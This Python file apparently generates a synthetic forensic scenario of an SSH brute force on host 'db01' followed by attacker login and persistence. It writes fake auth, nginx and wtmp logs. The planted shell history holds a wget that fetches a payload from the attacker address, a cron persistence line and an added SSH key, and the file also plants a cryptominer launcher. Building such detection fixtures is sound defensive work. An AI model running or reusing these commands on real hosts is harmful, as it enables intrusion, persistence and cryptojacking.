"""Golden scenario 3: an SSH brute force, then a login and persistence, no web shell.

A database host (db01) with a static nginx site. On 2024-05-10 one address tries root,
admin and common names for twenty minutes, then guesses the password of `deploy`; wtmp
records the session. From it the intruder fetches a miner into /var/tmp/.cache, adds a
cron job and an SSH key for deploy. Another address brute-forces and never gets in; the
admin, alice, logs in with her key and runs sudo as on every other day."""

from __future__ import annotations

import importlib.util
from datetime import datetime, timedelta, timezone
from pathlib import Path

_spec = importlib.util.spec_from_file_location(
    "_records", Path(__file__).resolve().parent.parent / "_records.py"
)
records = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(records)

ATTACKER = "203.0.113.45"
OTHER_BRUTE = "192.0.2.99"
ADMIN_IP = "198.51.100.7"
HOST = "db01"
KEY, KEY_FP = records.ed25519_key("ssh-bruteforce attacker", "x@kali")
ALICE_KEY, ALICE_FP = records.ed25519_key("alice laptop", "alice@laptop")
NAMES = ["root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "user"]


def _syslog(t: datetime, prog: str, msg: str) -> tuple[datetime, str]:
    return t, f"{t.strftime('%b')} {t.day:2d} {t.strftime('%H:%M:%S')} {HOST} {prog}: {msg}"


def auth_log() -> list[str]:
    ev: list[tuple[datetime, str]] = []
    for day in range(6, 11):
        t = datetime(2024, 5, day, 8, 0, 4, tzinfo=timezone.utc)
        ev.append(
            _syslog(
                t,
                f"sshd[{900 + day}]",
                f"Accepted publickey for alice from {ADMIN_IP} port {50000 + day} ssh2: ED25519 {ALICE_FP}",
            )
        )
        ev.append(
            _syslog(
                t,
                f"sshd[{900 + day}]",
                "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)",
            )
        )
        ev.append(
            _syslog(
                t + timedelta(minutes=2),
                "sudo",
                "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get upgrade -y",
            )
        )
        ev.append(
            _syslog(
                t + timedelta(minutes=30),
                f"sshd[{900 + day}]",
                "pam_unix(sshd:session): session closed for user alice",
            )
        )
    start = datetime(2024, 5, 10, 2, 4, 10, tzinfo=timezone.utc)
    for i in range(80):
        t = start + timedelta(seconds=15 * i)
        name = NAMES[i % len(NAMES)]
        pid = 3000 + i
        if name in ("root",):
            ev.append(
                _syslog(t, f"sshd[{pid}]", f"Failed password for root from {ATTACKER} port {40000 + i} ssh2")
            )
        else:
            ev.append(_syslog(t, f"sshd[{pid}]", f"Invalid user {name} from {ATTACKER} port {40000 + i}"))
            ev.append(
                _syslog(
                    t + timedelta(seconds=2),
                    f"sshd[{pid}]",
                    f"Failed password for invalid user {name} from {ATTACKER} port {40000 + i} ssh2",
                )
            )
    for i in range(6):
        t = start + timedelta(seconds=15 * 80 + 10 * i)
        ev.append(
            _syslog(
                t, f"sshd[{3100 + i}]", f"Failed password for deploy from {ATTACKER} port {41000 + i} ssh2"
            )
        )
    ok = datetime(2024, 5, 10, 2, 25, 11, tzinfo=timezone.utc)
    ev.append(_syslog(ok, "sshd[3200]", f"Accepted password for deploy from {ATTACKER} port 41200 ssh2"))
    ev.append(
        _syslog(
            ok, "sshd[3200]", "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"
        )
    )
    ev.append(
        _syslog(
            ok + timedelta(minutes=9), "sshd[3200]", "pam_unix(sshd:session): session closed for user deploy"
        )
    )
    other = datetime(2024, 5, 9, 17, 0, 0, tzinfo=timezone.utc)
    for i in range(25):
        t = other + timedelta(seconds=7 * i)
        ev.append(
            _syslog(
                t, f"sshd[{5000 + i}]", f"Failed password for root from {OTHER_BRUTE} port {33000 + i} ssh2"
            )
        )
    ev.sort(key=lambda x: x[0])
    return [line for _t, line in ev]


def access_log() -> list[str]:
    out = []
    start = datetime(2024, 5, 8, 0, 0, tzinfo=timezone.utc)
    for i in range(200):
        t = start + timedelta(minutes=25 * i)
        out.append(
            f'198.51.100.{20 + i % 5} - - [{t.strftime("%d/%b/%Y:%H:%M:%S +0000")}] '
            f'"GET /{"" if i % 3 else "status.html"} HTTP/1.1" 200 {812 + i % 40} "-" '
            '"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"'
        )
    return out


def generate(root: Path) -> None:
    (root / "var/log/nginx").mkdir(parents=True, exist_ok=True)
    (root / "var/log/auth.log").write_text("\n".join(auth_log()) + "\n")
    (root / "var/log/nginx/access.log").write_text("\n".join(access_log()) + "\n")
    wtmp = [records.utmp_record(records.BOOT_TIME, "2024-05-01T03:00:00Z", "reboot", "~", "6.1.0-18-amd64")]
    for day in range(6, 11):
        wtmp.append(
            records.utmp_record(
                records.USER_PROCESS, f"2024-05-{day:02d}T08:00:05Z", "alice", "pts/0", ADMIN_IP, 900 + day
            )
        )
        wtmp.append(
            records.utmp_record(
                records.DEAD_PROCESS, f"2024-05-{day:02d}T08:30:04Z", "", "pts/0", "", 900 + day
            )
        )
    wtmp.append(
        records.utmp_record(records.USER_PROCESS, "2024-05-10T02:25:12Z", "deploy", "pts/1", ATTACKER, 3201)
    )
    wtmp.append(records.utmp_record(records.DEAD_PROCESS, "2024-05-10T02:34:11Z", "", "pts/1", "", 3201))
    records.write_wtmp(root / "var/log/wtmp", wtmp)
    ssh = root / "home/deploy/.ssh"
    ssh.mkdir(parents=True, exist_ok=True)
    (ssh / "authorized_keys").write_text(KEY + "\n")
    alice = root / "home/alice/.ssh"
    alice.mkdir(parents=True, exist_ok=True)
    (alice / "authorized_keys").write_text(ALICE_KEY + "\n")
    (root / "home/deploy/.bash_history").write_text(
        "w\nuname -a\ncat /etc/passwd\ncd /var/tmp\nmkdir -p .cache && cd .cache\n"
        f"wget -q http://{ATTACKER}/x/upd -O upd\nchmod +x upd\nnohup ./upd -c config.json >/dev/null 2>&1 &\n"
        "mkdir -p ~/.ssh\n"
        f"echo '{KEY}' >> ~/.ssh/authorized_keys\n"
        "(crontab -l 2>/dev/null; echo '*/10 * * * * /var/tmp/.cache/upd -c /var/tmp/.cache/config.json "
        ">/dev/null 2>&1') | crontab -\nexit\n"
    )
    cache = root / "var/tmp/.cache"
    cache.mkdir(parents=True, exist_ok=True)
    (cache / "upd").write_text(
        "#!/bin/sh\n# miner launcher\nexec /var/tmp/.cache/xmr -o stratum+tcp://pool.example-mine.net:3333 "
        "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A "
        "--donate-level 1 --cpu-max-threads-hint 90\n"
    )
    (cache / "config.json").write_text(
        '{"autosave": true, "cpu": {"enabled": true}, "pools": [{"url": '
        '"stratum+tcp://pool.example-mine.net:3333", "user": "44AFFq5k", "pass": "x"}]}\n'
    )
    crontabs = root / "var/spool/cron/crontabs"
    crontabs.mkdir(parents=True, exist_ok=True)
    (crontabs / "deploy").write_text(
        "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
        "*/10 * * * * /var/tmp/.cache/upd -c /var/tmp/.cache/config.json >/dev/null 2>&1\n"
    )
